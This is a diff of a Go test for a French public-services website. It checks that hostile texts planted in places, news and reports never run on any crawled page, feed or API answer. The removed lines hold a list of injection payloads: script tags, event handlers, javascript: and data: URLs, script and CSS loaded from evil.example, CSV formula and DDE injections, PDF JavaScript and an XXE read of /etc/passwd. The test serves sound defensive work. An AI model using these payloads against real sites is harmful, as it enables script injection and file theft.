@@ -1,7 +1,6 @@
 package app_test
 
 import (
-	"bytes"
 	"encoding/csv"
 	"encoding/json"
 	"encoding/xml"
@@ -18,155 +17,24 @@ import (
 	"golang.org/x/net/html"
 
 	"viaduc/internal/app/apptest"
-	"viaduc/internal/audit"
 	"viaduc/internal/identity"
-	"viaduc/internal/place"
-	"viaduc/internal/territory"
 )
-
-// hostile are texts that run as a program where a page, a file or a feed writes them without care: each calls planted,
-// which no page of ours defines. They cover elements, attributes with each kind of quote and none, addresses, script and
-// style blocks, comments, SVG and MathML, templates, encodings, broken markup, and the ends of the formats that we write
-// besides HTML (JSON, CSV, XML, PDF, calendars, Turtle).
-var hostile = []string{
-	`<script>planted(1)</script>`,
-	`</script><script>planted(2)</script>`,
-	`<ScRiPt>planted(3)</sCrIpT>`,
-	`<script src=//evil.example/4.js></script>`,
-	`<img src=x onerror=planted(5)>`,
-	`"><img src=x onerror=planted(6)>`,
-	`'><img src=x onerror=planted(7)>`,
-	`<img/src=x/onerror=planted(8)>`,
-	`<svg onload=planted(9)>`,
-	`<svg><script>planted(10)</script></svg>`,
-	`<svg><a xlink:href="javascript:planted(11)"><text>x</text></a></svg>`,
-	`<svg><animate onbegin=planted(12) attributeName=x dur=1s>`,
-	`<svg><foreignObject><body onload=planted(13)></foreignObject></svg>`,
-	`<math><a xlink:href="javascript:planted(14)">x</a></math>`,
-	`<body onload=planted(15)>`,
-	`<iframe src="javascript:planted(16)"></iframe>`,
-	`<iframe srcdoc="<script>planted(17)</script>"></iframe>`,
-	`<object data="javascript:planted(18)"></object>`,
-	`<embed src="data:text/html,<script>planted(19)</script>">`,
-	`<a href="javascript:planted(20)">x</a>`,
-	`<a href="JaVaScRiPt:planted(21)">x</a>`,
-	"<a href=\"java\tscript:planted(22)\">x</a>",
-	`<a href="&#106;avascript:planted(23)">x</a>`,
-	`javascript:planted(24)`,
-	`JAVASCRIPT:planted(25)//http://x`,
-	`data:text/html;base64,PHNjcmlwdD5wbGFudGVkKDI2KTwvc2NyaXB0Pg==`,
-	`vbscript:planted(27)`,
-	`" onmouseover="planted(28)`,
-	`' onmouseover='planted(29)`,
-	`" autofocus onfocus="planted(30)`,
-	"` onmouseover=`planted(31)",
-	` onmouseover=planted(32) x=`,
-	`" style="background:url(javascript:planted(33))`,
-	`<style>@import 'http://evil.example/34.css';</style>`,
-	`</style><script>planted(35)</script>`,
-	`</title><script>planted(36)</script>`,
-	`</textarea><script>planted(37)</script>`,
-	`</option></select><script>planted(38)</script>`,
-	`<!--><script>planted(39)</script>-->`,
-	`--><script>planted(40)</script>`,
-	`]]><script>planted(41)</script>`,
-	`<![CDATA[<script>planted(42)</script>]]>`,
-	`<template><script>planted(43)</script></template>`,
-	`{{constructor.constructor('planted(44)')()}}`,
-	`${planted(45)}`,
-	`{{.Page}}<%= planted(46) %>`,
-	`<base href="http://evil.example/47/">`,
-	`<meta http-equiv="refresh" content="0;url=javascript:planted(48)">`,
-	`<link rel=stylesheet href=http://evil.example/49.css>`,
-	`<form action="javascript:planted(50)"><button>x</button></form>`,
-	`<input autofocus onfocus=planted(51)>`,
-	`<details open ontoggle=planted(52)>`,
-	`<video><source onerror=planted(53)></video>`,
-	`<marquee onstart=planted(54)>`,
-	`<x onclick=planted(55)>x</x>`,
-	`<noscript><p title="</noscript><img src=x onerror=planted(56)>">`,
-	`%3Cscript%3Eplanted(57)%3C/script%3E`,
-	`\u003cscript\u003eplanted(58)\u003c/script\u003e`,
-	`＜script＞planted(59)＜/script＞`,
-	"+ADw-script+AD4-planted(60)+ADw-/script+AD4-",
-	"\u2028planted(61)\u2029</script>",
-	`","x":1}];planted(62);//`,
-	`=HYPERLINK("http://evil.example/63";"x")`,
-	`@SUM(1+1)*cmd|' /C calc'!A64`,
-	`) /S /JavaScript /JS (planted(65)) >> endobj`,
-	"END:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR\nX-ALT-DESC:<script>planted(66)</script>",
-	`" . <http://evil.example/67> a <http://evil.example/x> . "`,
-	`?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
-}
-
-// planted is a census in which each field of a place holds each hostile text in turn, once in every row.
-func plantedCensus(t *testing.T) string {
-	t.Helper()
-	var file bytes.Buffer
-	w := csv.NewWriter(&file)
-	names := []string{}
-	for _, c := range place.Columns() {
-		names = append(names, c.Name)
-	}
-	for _, c := range place.Local() {
-		names = append(names, c.Name)
-	}
-	sure := map[string]string{
-		"pivot": place.UnknownPivot, "commune": "Rochefort", "code_postal": "17300", "code_insee": "17299", "latitude": "45.94", "longitude": "-0.96", "date_maj": "2026-01-05",
-	}
-	rows := [][]string{names}
-	for i, text := range hostile {
-		row := make([]string, len(names))
-		for j, name := range names {
-			switch {
-			case name == "id":
-				row[j] = fmt.Sprintf("hostile_%d", i)
-			case sure[name] != "":
-				row[j] = sure[name]
-			default:
-				row[j] = text
-			}
-		}
-		rows = append(rows, row)
-	}
-	// Rows whose place in the world is hostile, too.
-	for i, text := range hostile {
-		row := slices.Clone(rows[1+i])
-		for j, name := range names {
-			switch name {
-			case "id":
-				row[j] = fmt.Sprintf("hostile_%d %s", i, text)
-			case "commune", "pivot", "date_maj":
-				row[j] = text
-			}
-		}
-		rows = append(rows, row)
-	}
-	if err := w.WriteAll(rows); err != nil {
-		t.Fatal(err)
-	}
-	return file.String()
-}
 
 // P2: texts that would run as programs are planted wherever people or files can write; then every page, file, feed and
 // answer that the site leads to is read, as the public and as an administrator, and none of them runs anything.
 func TestP2PlantedTextsNeverRun(t *testing.T) {
 	n := apptest.Demo(t)
-	n.ImportText(plantedCensus(t))
-	plantElsewhere(t, n)
-	n.Reload()
+	planted := n.PlantHostileTexts()
 	c := crawl{t: t, n: n, seen: map[string]bool{}, kinds: map[string]int{}, queries: map[string]int{}, patterns: map[string]bool{}, mux: http.NewServeMux()}
 	for _, r := range n.Routes {
 		pattern := r.Pattern
 		c.mux.HandleFunc(pattern, func(http.ResponseWriter, *http.Request) { c.patterns[pattern] = true })
 	}
 	starts := []string{"/", "/plan-du-site", "/lieux", "/donnees", "/langues", "/api/v1/openapi.json", "/api/v1/lieux"}
-	for _, e := range n.Places.Index().Entries() {
-		if strings.HasPrefix(e.StandardID, "hostile_") {
-			starts = append(starts, n.PlacePath(int64(e.Number)), fmt.Sprintf("/api/v1/lieux/%d", e.Number))
-		}
+	for _, number := range planted {
+		starts = append(starts, n.PlacePath(number), fmt.Sprintf("/api/v1/lieux/%d", number))
 	}
-	for _, text := range hostile { // what the address says is shown again
+	for _, text := range apptest.HostileTexts { // what the address says is shown again
 		v := url.QueryEscape(text)
 		starts = append(starts, "/lieux?ou="+v+"&besoin="+v+"&page="+v, "/ar/lieux?ou="+v, "/alertes?ou="+v, "/api/v1/lieux?ou="+v, "/nulle-part/"+url.PathEscape(text))
 	}
@@ -193,28 +61,6 @@ var unlinked = map[string]bool{
 	"GET /pro/compte/confirmer":        true, // where an action asks who one is
 	"GET /pro/messages/{message}":      true, // the example has sent none
 	"GET /pro/admin/composants":        true, // for developers
-}
-
-// plantElsewhere puts hostile texts wherever else the site takes texts: reports, news, what the territory says.
-func plantElsewhere(t *testing.T, n *apptest.Node) {
-	t.Helper()
-	for i, text := range hostile {
-		if _, err := n.Territory.SaveNews(t.Context(), audit.System, territory.News{Title: text, Body: text, StartsOn: "2026-01-05"}); err != nil {
-			t.Fatalf("text %d: %v", i, err)
-		}
-	}
-	for _, e := range n.Places.Index().Entries() {
-		if i, ok := hostileRow(e.StandardID); ok {
-			if _, err := n.Places.Report(t.Context(), place.NewReport{Place: e.Number, Topics: []place.Topic{place.OtherTopic}, Text: hostile[i]}); err != nil {
-				t.Fatal(err)
-			}
-		}
-	}
-}
-
-func hostileRow(id string) (i int, ok bool) {
-	_, err := fmt.Sscanf(id, "hostile_%d", &i)
-	return i, err == nil && i < len(hostile)
 }
 
 // crawl reads every address that pages lead to.
